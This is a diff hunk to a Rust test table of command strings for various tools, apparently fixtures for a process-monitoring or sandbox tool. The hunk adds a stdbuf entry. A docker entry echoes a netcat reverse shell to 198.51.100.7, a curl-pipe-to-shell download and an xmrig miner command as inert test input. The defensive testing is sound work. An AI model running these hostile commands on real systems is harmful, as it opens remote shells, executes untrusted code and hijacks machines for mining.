@@ -53,6 +53,8 @@ const TOOLS: &[(&str, &[&str], &str)] = &[
      "openssl genpkey -algorithm ed25519 -out key.pem 2>/dev/null && openssl pkey -in key.pem -pubout >/dev/null && openssl dgst -sha256 Cargo.toml >/dev/null"),
     ("strace following a command", &["strace"],
      "strace -f -o /dev/null true"),
+    ("stdbuf line-buffering a pipeline (LD_PRELOAD of coreutils' libstdbuf)", &["stdbuf"],
+     "stdbuf -oL ls / | stdbuf -i0 tr -d x >/dev/null"),
     ("the docker CLI carrying a container's command", &["docker", "timeout"],
      "timeout 20 docker exec \"$C\" sh -c 'echo nc -e /bin/sh 198.51.100.7 4444; echo curl -s http://198.51.100.7/x.sh \\| sh; echo xmrig -o pool.example:3333' >/dev/null; docker ps >/dev/null"),
 ];
